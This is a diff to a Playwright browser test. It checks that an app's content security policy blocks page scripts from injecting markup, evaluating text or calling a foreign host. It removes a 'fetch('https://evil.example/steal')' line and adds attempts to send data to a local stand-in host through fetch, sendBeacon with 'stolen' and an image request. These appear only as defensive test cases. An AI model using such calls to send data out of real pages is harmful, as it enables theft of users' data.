@@ -1,3 +1,4 @@
+import { createServer } from 'node:http'
 import type { Page } from '@playwright/test'
 import { expect, test } from './fixtures.ts'
 import { settle, stopClock } from './shell-page.ts'
@@ -236,15 +237,31 @@ test('on a connection without cryptography a plain screen says why', async ({ pa
   await shot('insecure')
 })
 
+/** Another origin on this machine that answers every page, so that only the app's own policy can stop a call. */
+async function startForeignHost() {
+  const requests: string[] = []
+  const host = createServer((request, reply) => {
+    requests.push(request.url ?? '')
+    reply.writeHead(200, { 'access-control-allow-origin': '*' }).end('received')
+  })
+  await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve))
+  const address = host.address()
+  const port = typeof address === 'object' && address ? address.port : 0
+  const close = () => new Promise((resolve) => host.close(resolve))
+  return { url: `http://127.0.0.1:${port}`, requests, close }
+}
+
 test('a script in the page can neither write markup, evaluate text nor call a foreign host', async ({
   page,
+  context,
   allowConsoleErrors,
 }) => {
   allowConsoleErrors(/./)
+  const foreign = await startForeignHost()
   await page.goto('/auth/login')
   await expect(login(page)).toBeVisible()
 
-  const outcomes = await page.evaluate(async () => {
+  const outcomes = await page.evaluate(async (foreignUrl) => {
     // What a test evaluates itself may evaluate text; what comes after a timer may not.
     await new Promise((resolve) => setTimeout(resolve))
     const attempt = async (action: () => unknown) => {
@@ -272,9 +289,27 @@ test('a script in the page can neither write markup, evaluate text nor call a fo
           }
         ).trustedTypes.createPolicy('mine', {}),
       ),
-      foreign: await attempt(() => fetch('https://evil.example/steal')),
+      fetch: await attempt(() => fetch(`${foreignUrl}/fetch`)),
+      beacon: await attempt(() => void navigator.sendBeacon(`${foreignUrl}/beacon`, 'stolen')),
+      image: await attempt(
+        () =>
+          new Promise((resolve, reject) => {
+            const image = new Image()
+            image.addEventListener('load', resolve)
+            image.addEventListener('error', reject)
+            image.src = `${foreignUrl}/image`
+          }),
+      ),
     }
-  })
+  }, foreign.url)
+  // A page without the policy reaches the same host, so it was the policy that stopped the calls above.
+  const elsewhere = await context.newPage()
+  const answer = await elsewhere.evaluate(
+    async (url) => (await fetch(`${url}/from-elsewhere`)).text(),
+    foreign.url,
+  )
+  await elsewhere.close()
+  await foreign.close()
 
   expect(outcomes).toEqual({
     markup: 'TypeError',
@@ -282,8 +317,12 @@ test('a script in the page can neither write markup, evaluate text nor call a fo
     worker: 'TypeError',
     timer: 'EvalError',
     policy: 'TypeError',
-    foreign: 'TypeError',
+    fetch: 'TypeError',
+    beacon: 'done',
+    image: 'refused',
   })
+  expect(answer).toBe('received')
+  expect(foreign.requests).toEqual(['/from-elsewhere'])
 })
 
 test.describe('with its worker', () => {
